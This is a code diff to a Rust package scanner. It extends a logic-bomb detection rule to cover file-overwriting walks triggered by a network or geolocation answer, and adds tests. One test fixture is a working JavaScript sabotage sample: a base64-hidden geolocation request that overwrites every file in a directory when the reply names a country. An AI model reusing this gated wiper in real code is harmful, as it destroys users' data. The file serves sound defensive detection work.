@@ -15,10 +15,12 @@ diligence_finding::declare_rule! {
     /// true })`, `rimraf`, `del`, `rm -rf` spawned), or a directory walk (`readdir`) that deletes what it lists or
     /// overwrites it with a short constant (`fs.writeFileSync(f, '')`) — next to a gate that decides when it
     /// happens: the current date compared with a fixed date, `Math.random()` compared with a threshold, the clock's
-    /// hour, a time-zone, locale or country read, or an IP-geolocation lookup. Wherever the code runs (at load, at
-    /// install, or in a plugin hook a build tool calls), the gate raises, never lowers: critical for a date,
-    /// locale or country gate, and for a walk overwriting files with a constant behind any gate; high for a
-    /// recursive delete behind only a random draw or the hour.
+    /// hour, a time-zone, locale or country read, or an IP-geolocation lookup (in this module or one it requires or
+    /// is required by); for the walk that overwrites or deletes every file, also a network answer (the walk runs in
+    /// a network callback or a function one calls). Wherever the code runs (at load, at install, or in a plugin
+    /// hook a build tool calls), the gate raises, never lowers: critical for a date, locale or country gate, and
+    /// for a walk overwriting files with a constant behind any gate; high for a recursive delete behind only a
+    /// random draw or the hour.
     ///
     /// ## Why it matters
     /// Sabotage is built to stay dormant while it is reviewed and tested: the 2025 React/Vue/Vite plugins that
@@ -34,7 +36,9 @@ diligence_finding::declare_rule! {
     /// rimraf-style tools and build cleaners delete trees on request, with no date, chance or locale deciding:
     /// not reported. Caches that evict on a random share of runs (`if (Math.random() < 0.01) prune(dir)`) delete
     /// by age inside their own folder, usually without a recursive delete of the tree: if one does, it is high, and
-    /// a reviewer sees the cache folder in the evidence. Bundles (many modules in one file) are skipped.
+    /// a reviewer sees the cache folder in the evidence. Installers deleting a temporary tree in a download
+    /// callback are not reported (a network answer gates only the walk-and-overwrite). Bundles (many modules in one
+    /// file) are skipped.
     pub static LOGIC_BOMB = { id: "code/logic-bomb", severity: Severity::Critical };
 }
 
@@ -64,7 +68,11 @@ fn module(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
     let chance = of(Kind::RandomGate)
         .chain(of(Kind::TimeGate).filter(|s| !s.detail.contains("fixed date")))
         .next();
-    let gate = dated.or(targeted).or(chance)?;
+    // A network answer deciding a walk that overwrites every file (the geolocation reply of
+    // node-ipc) gates only that corruption: installers delete temporary trees in download
+    // callbacks all the time.
+    let remote = f.of(Kind::RemoteGate).next();
+    let gate = dated.or(targeted).or(chance).or(remote)?;
     let walks = |s: &Signal| {
         f.signals
             .iter()
@@ -82,6 +90,9 @@ fn module(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
             || s.detail.starts_with("shell recursive delete")
     });
     let hit = corrupt.or(recursive)?;
+    if dated.is_none() && targeted.is_none() && chance.is_none() && corrupt.is_none() {
+        return None;
+    }
     let strong = dated.is_some() || targeted.is_some() || corrupt.is_some();
     let severity = if strong {
         LOGIC_BOMB.default_severity
@@ -99,6 +110,8 @@ fn module(p: &PackageFacts, f: &FileFacts) -> Option<CodeFinding> {
         "the locale, time zone or country"
     } else if gate.kind == Kind::RandomGate {
         "a random draw"
+    } else if gate.kind == Kind::RemoteGate {
+        "a network answer"
     } else {
         "the time of day"
     };
@@ -160,6 +173,37 @@ mod tests {
             ),
         ]);
         assert_eq!(severity(&s, "code/logic-bomb"), Some(Severity::High));
+    }
+
+    /// A geolocation answer decides a walk overwriting every file with a constant; the walker is
+    /// declared after the callback that calls it.
+    #[test]
+    fn positive_network_answer_gates_overwrite() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "index.js",
+                "const https = require('https');\nconst fs = require('fs');\nconst path = require('path');\nhttps.get(Buffer.from('aHR0cHM6Ly9nZW8uZXhhbXBsZS5jb20v', 'base64').toString(), (r) => {\n  r.on('data', (d) => { if (String(d).includes('XX')) h('./'); });\n});\nfunction h(n) {\n  for (const e of fs.readdirSync(n)) fs.writeFile(path.join(n, e), '\\u2764', () => {});\n}\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/logic-bomb"),
+            vec![("index.js".to_string(), 8)]
+        );
+        assert_eq!(severity(&s, "code/logic-bomb"), Some(Severity::Critical));
+    }
+
+    /// A prebuilt-binary installer removes its temporary folder in the download callback.
+    #[test]
+    fn negative_download_callback_cleans_temp() {
+        let s = scan(&[
+            ("package.json", PJ),
+            (
+                "install.js",
+                "const https = require('https');\nconst fs = require('fs');\nconst os = require('os');\nconst tmp = fs.mkdtempSync(os.tmpdir() + '/x');\nhttps.get('https://example.com/bin.tgz', (r) => {\n  r.on('end', () => fs.rmSync(tmp, { recursive: true, force: true }));\n});\n",
+            ),
+        ]);
+        assert!(hits(&s, "code/logic-bomb").is_empty());
     }
 
     /// The gate in the entry module, the shell delete in the module it requires.
